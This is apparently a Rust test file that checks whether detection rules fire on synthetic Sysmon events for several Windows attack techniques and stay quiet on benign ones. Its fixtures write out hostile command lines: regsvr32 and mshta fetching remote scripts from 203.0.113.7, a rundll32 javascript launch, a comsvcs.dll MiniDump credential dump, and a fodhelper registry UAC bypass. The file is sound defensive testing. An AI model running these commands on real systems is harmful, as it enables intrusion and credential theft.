//! Every detection of the other packs fires on an event of its technique, and not on an ordinary one.

use std::collections::BTreeSet;
use std::sync::Arc;

use shikra_engine::languages::Options;
use shikra_pack::{embedded, fires, ndjson};
use shikra_taxonomy::Taxonomy;

const SYSMON: &str = "Microsoft-Windows-Sysmon";

type Fields<'a> = &'a [(&'a str, &'a str)];
/// Event id and fields.
type Events<'a> = &'a [(&'a str, Fields<'a>)];

fn line(id: &str, fields: Fields<'_>) -> String {
    let mut event = vec![("Provider".to_owned(), SYSMON.to_owned()), ("EventID".to_owned(), id.to_owned())];
    event.extend(fields.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())));
    ndjson(&event)
}

/// Pack, events of an attack, ordinary events.
const CASES: &[(&str, Events<'_>, Events<'_>)] = &[
    (
        "T1218.010",
        &[
            (
                "1",
                &[
                    ("ProcessGuid", "{a}"),
                    ("Image", r"C:\Windows\System32\regsvr32.exe"),
                    ("CommandLine", r"regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll"),
                ],
            ),
            (
                "1",
                &[
                    ("ProcessGuid", "{b}"),
                    ("ParentProcessGuid", "{a}"),
                    ("Image", r"C:\Windows\System32\calc.exe"),
                    ("CommandLine", "calc"),
                    ("ParentImage", r"C:\Windows\System32\regsvr32.exe"),
                ],
            ),
            ("3", &[("Image", r"C:\Windows\System32\regsvr32.exe"), ("DestinationIp", "203.0.113.7")]),
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\regsvr32.exe"),
                    ("CommandLine", r"regsvr32 C:\Users\Public\x.dat"),
                ],
            ),
        ],
        &[
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\regsvr32.exe"),
                    ("CommandLine", r#"regsvr32 /s "C:\Program Files\Contoso\contoso.dll""#),
                ],
            ),
            ("3", &[("Image", r"C:\Windows\System32\regsvr32.exe"), ("DestinationIp", "10.1.2.3")]),
        ],
    ),
    (
        "T1218.011",
        &[
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\rundll32.exe"),
                    ("CommandLine", r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x"#),
                ],
            ),
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\rundll32.exe"),
                    (
                        "CommandLine",
                        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\l.dmp full",
                    ),
                ],
            ),
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\rundll32.exe"),
                    ("CommandLine", r"C:\Windows\System32\rundll32.exe"),
                ],
            ),
            (
                "3",
                &[
                    ("Image", r"C:\Windows\System32\rundll32.exe"),
                    ("DestinationIp", "203.0.113.7"),
                    ("DestinationPort", "443"),
                ],
            ),
        ],
        &[(
            "1",
            &[
                ("Image", r"C:\Windows\System32\rundll32.exe"),
                ("CommandLine", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
            ],
        )],
    ),
    (
        "T1218.005",
        &[
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\mshta.exe"),
                    ("CommandLine", "mshta http://203.0.113.7/a.hta"),
                    ("ParentImage", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
                ],
            ),
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\cmd.exe"),
                    ("CommandLine", "cmd /c x"),
                    ("ParentImage", r"C:\Windows\System32\mshta.exe"),
                ],
            ),
            ("3", &[("Image", r"C:\Windows\System32\mshta.exe"), ("DestinationIp", "203.0.113.7")]),
        ],
        &[(
            "1",
            &[
                ("Image", r"C:\Windows\System32\mshta.exe"),
                ("CommandLine", r#"mshta.exe "C:\Program Files\Contoso\help.hta""#),
                ("ParentImage", r"C:\Windows\explorer.exe"),
            ],
        )],
    ),
    (
        "T1548.002",
        &[
            (
                "13",
                &[
                    ("EventType", "SetValue"),
                    ("Image", r"C:\Windows\System32\reg.exe"),
                    (
                        "TargetObject",
                        r"HKU\S-1-5-21-1-2-3-1001_Classes\ms-settings\shell\open\command\(Default)",
                    ),
                    ("Details", "cmd.exe"),
                ],
            ),
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\cmd.exe"),
                    ("CommandLine", "cmd.exe"),
                    ("ParentImage", r"C:\Windows\System32\fodhelper.exe"),
                    ("IntegrityLevel", "High"),
                ],
            ),
            (
                "13",
                &[
                    ("EventType", "SetValue"),
                    ("Image", r"C:\Windows\System32\reg.exe"),
                    (
                        "TargetObject",
                        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
                    ),
                    ("Details", "DWORD (0x00000000)"),
                ],
            ),
        ],
        &[
            (
                "1",
                &[
                    ("Image", r"C:\Windows\System32\mmc.exe"),
                    ("CommandLine", "mmc.exe eventvwr.msc"),
                    ("ParentImage", r"C:\Windows\System32\eventvwr.exe"),
                    ("IntegrityLevel", "High"),
                ],
            ),
            (
                "13",
                &[
                    ("EventType", "SetValue"),
                    (
                        "TargetObject",
                        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA",
                    ),
                    ("Details", "DWORD (0x00000001)"),
                ],
            ),
        ],
    ),
];

#[test]
fn detections_fire_on_the_technique_and_not_beside_it() {
    let taxonomy = Arc::new(Taxonomy::embedded());
    let packs = embedded();
    for (id, attack, ordinary) in CASES {
        let bundle = packs.iter().find(|b| b.pack.id == *id).unwrap();
        let rules = bundle.detections(&Options::default()).rules;
        let all: BTreeSet<String> = rules.iter().map(|r| r.meta.id.clone()).collect();
        assert!(all.len() >= 4, "{id} has {} detections", all.len());
        let languages: BTreeSet<&str> = rules.iter().map(|r| r.meta.language).collect();
        assert!(
            languages.len() >= 3 && languages.contains("sigma") && languages.contains("eql"),
            "{languages:?}"
        );
        let lines = |events: Events<'_>| events.iter().map(|(n, f)| line(n, f)).collect::<Vec<_>>();
        let fired = fires(rules.clone(), &taxonomy, &lines(attack)).unwrap();
        let silent: Vec<&String> = all.difference(&fired).collect();
        // One rule of Rundll32 has its event in the tests of its exclusion.
        let silent: Vec<_> = silent.into_iter().filter(|id| !id.ends_with("1b03")).collect();
        assert!(silent.is_empty(), "{id}: silent on the attack: {silent:?}");
        assert_eq!(
            fires(rules, &taxonomy, &lines(ordinary)).unwrap(),
            BTreeSet::new(),
            "{id}: ordinary events"
        );
    }
}
